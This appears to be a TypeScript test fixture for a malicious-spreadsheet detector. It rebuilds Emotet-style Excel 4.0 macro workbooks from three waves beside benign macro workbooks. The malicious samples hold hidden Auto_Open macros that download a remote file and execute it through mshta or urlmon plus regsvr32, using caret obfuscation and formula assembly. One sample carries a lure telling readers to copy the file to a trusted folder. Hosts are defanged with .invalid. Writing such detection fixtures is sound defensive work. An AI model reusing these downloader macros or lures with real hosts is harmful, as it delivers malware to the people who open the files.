/**
 * Workbooks that look as Emotet's did, wave by wave, and the honest ones beside them. Hosts end in `.invalid`, programs lie in
 * folders that do not exist.
 */
import type { WorkbookParts } from './workbook';

/** December 2021, .xlsm: the command stands in a hidden name, spelt with carets. */
export const wave202112: WorkbookParts = {
  sheets: [
    { name: 'Sheet1', cells: { A1: 'Please see the picture.' } },
    { name: 'Macro1', kind: 'macro', visibility: 'hidden', cells: { F1: '=EXEC(SSDGO)', F3: '=HALT()' } },
  ],
  names: [
    { name: 'Auto_Open', formula: 'Macro1!$F$1' },
    { name: 'SSDGO', formula: '"cmd /c m^sh^t^a h^tt^p^:/^/gone.invalid/fer/pp.html"', hidden: true },
  ],
};

/** January to April 2022, .xls: formulas that write formulas, out of pieces on another sheet. */
export const wave202201: WorkbookParts = {
  sheets: [
    {
      name: 'Sheet',
      cells: {
        B2: `'=CALL("ur`,
        C4: 'lmon","URLDownloadToFi',
        D3: 'leA","JJCCBB",0,"http://0x01.0x02.invalid/wp-content/a1/","',
        E9: '..\\wn.ocx",0,0)',
        B7: `'=EXEC("C:\\nowhere\\regs`,
        C8: 'vr32.exe /S ..\\wn.ocx")',
      },
    },
    {
      name: 'EFWFSFG',
      kind: 'macro',
      visibility: 'very-hidden',
      cells: {
        D10: '=FORMULA(Sheet!B2&Sheet!C4&Sheet!D3&Sheet!E9,D15)',
        D12: '=FORMULA(Sheet!B7&Sheet!C8,D18)',
        D20: '=RETURN()',
      },
    },
  ],
  names: [{ name: 'Auto_Open', formula: 'EFWFSFG!$D$10', hidden: true }],
};

/** November 2022, .xls: the reader is asked to copy the file to a folder where macros are not stopped. */
export const wave202211: WorkbookParts = {
  sheets: [
    {
      name: 'Sheet1',
      cells: {
        A1: 'RELAUNCH REQUIRED',
        A2: 'In accordance with the requirements of your security policy, to display the contents of the document you need to copy the file to the following folder and run it again:',
        A3: 'for Microsoft Office 2013 x64 and later - C:\\nowhere\\Microsoft Office\\root\\Templates',
      },
    },
    {
      name: 'Sheet6',
      kind: 'macro',
      visibility: 'hidden',
      cells: {
        G1: '=CALL("urlmon","URLDownloadToFileA","JJCCBB",0,"https://gone.invalid/cgi-bin/oE5/","..\\oxnv1.ooccxx",0,0)',
        G2: '=EXEC("C:\\nowhere\\regsvr32.exe ..\\oxnv1.ooccxx")',
        G3: '=RETURN()',
      },
    },
  ],
  names: [{ name: 'Auto_Open', formula: 'Sheet6!$G$1' }],
};

/** An old price list: a visible macro sheet, run by a button, that formats cells. */
export const formattingMacroSheet: WorkbookParts = {
  sheets: [
    { name: 'Prices', cells: { A1: 'Article', B1: 'Price' } },
    {
      name: 'Macro1',
      kind: 'macro',
      cells: {
        A1: 'Format the table',
        A2: '=SELECT("R1C1:R1C7")',
        A3: '=ALIGNMENT(2,FALSE(),1)',
        A4: '=BORDER(0,1,1,1,1)',
        A5: '=FORMULA("Total",B9)',
        A6: '=RUN("Macro2")',
        A7: '=RETURN()',
      },
    },
  ],
};

/** The same, greeting the reader when the workbook is opened. */
export const greetingMacroSheet: WorkbookParts = {
  sheets: [
    { name: 'Prices', cells: { A1: 'Article' } },
    { name: 'Macro1', kind: 'macro', cells: { A1: '=ALERT("Prices of March",2)', A2: '=HALT()' } },
  ],
  names: [{ name: 'Auto_Open', formula: 'Macro1!A1' }],
};

/** A workbook whose Auto_Open is a VBA procedure. */
export const vbaAutoOpen: WorkbookParts = {
  sheets: [{ name: 'Prices', cells: { A1: 'Article' } }],
  names: [{ name: 'Auto_Open', literal: true }],
};
